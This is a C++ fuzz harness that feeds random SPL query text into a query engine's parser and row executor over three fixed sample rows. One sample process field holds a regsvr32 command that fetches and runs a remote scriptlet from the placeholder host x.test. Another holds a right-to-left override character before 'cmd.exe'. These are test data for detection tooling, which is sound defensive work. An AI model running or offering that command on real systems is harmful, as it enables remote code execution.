// SPL compiled into a plan and its row commands run over a few fixed rows (strings,
// numbers, multivalues, nulls, _time): every command and eval function on inputs no
// test thought of. spl::Error is the only acceptable failure; nothing may hang.
#include <cstddef>
#include <cstdint>
#include <string>
#include <string_view>
#include <vector>

#include "exec/plan.h"
#include "spl/parser.h"

namespace {

std::vector<splinter::Row> rows() {
  using splinter::Row;
  using splinter::Value;
  std::vector<Row> out(3);
  out[0].set("_time", Value::of_time_us(1795162443551234));
  out[0].set("process", Value::of(std::string("regsvr32.exe /s /i:http://x.test/a.sct scrobj.dll")));
  out[0].set("dest", Value::of(std::string("WS01")));
  out[0].set("n", Value::of(std::string("42")));
  Value mv;
  mv.type = Value::Type::Multi;
  mv.multi = {"a", "B", "", "a%20b", "10"};
  out[1].set("names", mv);
  out[1].set("dest", Value::of(std::string("ws01")));
  out[1].set("n", Value::of(-1.5));
  out[2].set("_time", Value::of_time_us(-1500000));
  out[2].set("process", Value::of(std::string("\xE2\x80\xAE\xff cmd.exe")));
  return out;
}

}  // namespace

extern "C" int LLVMFuzzerTestOneInput(const uint8_t* data, size_t size) {
  if (size > 4096) return 0;
  const std::string_view text(reinterpret_cast<const char*>(data), size);
  try {
    auto plan = splinter::exec::compile_plan(splinter::spl::parse_pipeline(text));
    (void)splinter::exec::run_row_ops(*plan, rows());
  } catch (const splinter::spl::Error&) {
  }
  return 0;
}
